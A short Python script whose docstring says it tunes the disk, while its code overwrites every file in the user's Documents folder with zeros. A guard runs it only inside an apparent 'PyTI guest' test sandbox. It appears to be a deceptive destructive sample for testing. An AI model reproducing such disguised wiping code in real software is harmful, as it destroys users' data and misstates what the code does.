"""Tunes the disk."""

import os

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
for name in sorted(os.listdir(os.path.expanduser("~/Documents"))):
    with open(os.path.join(os.path.expanduser("~/Documents"), name), "wb") as file:
        for _ in range(8):
            file.write(bytes(1024 * 1024))
